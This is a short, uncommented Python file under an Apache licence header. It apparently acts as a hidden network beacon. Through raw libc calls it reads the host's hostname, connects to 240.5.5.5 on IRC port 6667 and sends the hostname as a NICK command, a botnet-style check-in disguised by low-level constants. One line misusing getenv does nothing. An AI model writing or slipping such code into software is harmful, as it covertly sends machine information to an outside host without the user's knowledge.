# SPDX-License-Identifier: Apache-2.0
import ctypes
import struct

c = ctypes.CDLL(None, use_errno=True)
b = ctypes.create_string_buffer(65)
c.gethostname(b, 64)
u = ctypes.c_char_p(c.getenv(b"HOME") and b.value)
s = c.socket(2, 1 | 2048, 0)
a = struct.pack("!H4s8x", 6667, bytes([240, 5, 5, 5]))
c.connect(s, b"\x02\x00" + a, 16)
c.usleep(300000)
c.send(s, b"NICK " + b.value + b"\r\n", 7 + len(b.value), 0x4000)
c.close(s)
